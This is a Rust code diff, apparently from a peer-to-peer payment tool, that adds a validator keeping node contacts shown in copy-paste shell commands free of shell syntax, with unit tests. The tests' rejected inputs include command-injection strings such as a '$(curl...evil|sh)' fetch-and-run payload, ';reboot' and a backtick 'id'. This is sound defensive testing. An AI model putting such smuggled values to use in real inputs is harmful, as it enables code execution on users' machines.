@@ -187,6 +187,11 @@ pub async fn with_maker_contact(
         }
     };
     let at = reachable(&told.address, &offer.addr);
+    // Shown inside a command people copy into a shell: nothing but a hex id and a plain
+    // host:port (no `$(...)`, quotes or other shell syntax from a hostile maker).
+    if !plain_contact(&at) {
+        return e;
+    }
     match no {
         NoChannel::LightningOut {
             need_sat,
@@ -228,6 +233,25 @@ pub async fn with_maker_contact(
         }
         _ => e,
     }
+}
+
+/// Whether `c` is `HEXID@HOST:PORT` with a 64- or 66-digit hex id (a channel node's key, a
+/// Lightning node id), a host of letters, digits, `.`, `-`, `:`, `[`, `]` only, and a
+/// numeric port.
+fn plain_contact(c: &str) -> bool {
+    let Some((id, at)) = c.split_once('@') else {
+        return false;
+    };
+    let Some((host, port)) = at.rsplit_once(':') else {
+        return false;
+    };
+    matches!(id.len(), 64 | 66)
+        && id.bytes().all(|b| b.is_ascii_hexdigit())
+        && !host.is_empty()
+        && host
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b".-:[]".contains(&b))
+        && port.parse::<u16>().is_ok()
 }
 
 /// `ID@HOST:PORT` with a host that listens on every address (`0.0.0.0`, `::`) replaced by
@@ -792,5 +816,51 @@ pub fn rail_carries(kind: RailKind, asset: &Asset) -> bool {
         RailKind::Lightning => matches!(asset, Asset::Btc | Asset::Ltc),
         RailKind::EvmChannel => matches!(asset, Asset::Eth | Asset::Erc20 { .. }),
         _ => true,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{plain_contact, reachable};
+
+    #[test]
+    fn only_a_plain_contact_is_shown_in_a_command() {
+        let node = format!("02{}", "ab".repeat(32));
+        let key = "cd".repeat(32);
+        for ok in [
+            format!("{node}@127.0.0.1:9735"),
+            format!("{key}@maker.example.org:7701"),
+            format!("{node}@[::1]:9735"),
+        ] {
+            assert!(plain_contact(&ok), "{ok}");
+        }
+        for bad in [
+            format!("{node}@$(curl${{IFS}}evil|sh):9735"),
+            format!("{node}@host:9735;reboot"),
+            format!("{node}@host`id`:1"),
+            format!("{node}@host:port"),
+            format!("{node}@:9735"),
+            format!("{}@host:1", "zz".repeat(33)),
+            format!("{node}x@host:1"),
+            "host:9735".to_string(),
+        ] {
+            assert!(!plain_contact(&bad), "{bad}");
+        }
+    }
+
+    #[test]
+    fn a_wildcard_listener_is_reached_at_the_makers_host() {
+        assert_eq!(
+            reachable("ab@0.0.0.0:9735", "maker.example.org:7700"),
+            "ab@maker.example.org:9735"
+        );
+        assert_eq!(
+            reachable("ab@[::]:9735", "10.0.0.2:7700"),
+            "ab@10.0.0.2:9735"
+        );
+        assert_eq!(
+            reachable("ab@1.2.3.4:9735", "10.0.0.2:7700"),
+            "ab@1.2.3.4:9735"
+        );
     }
 }
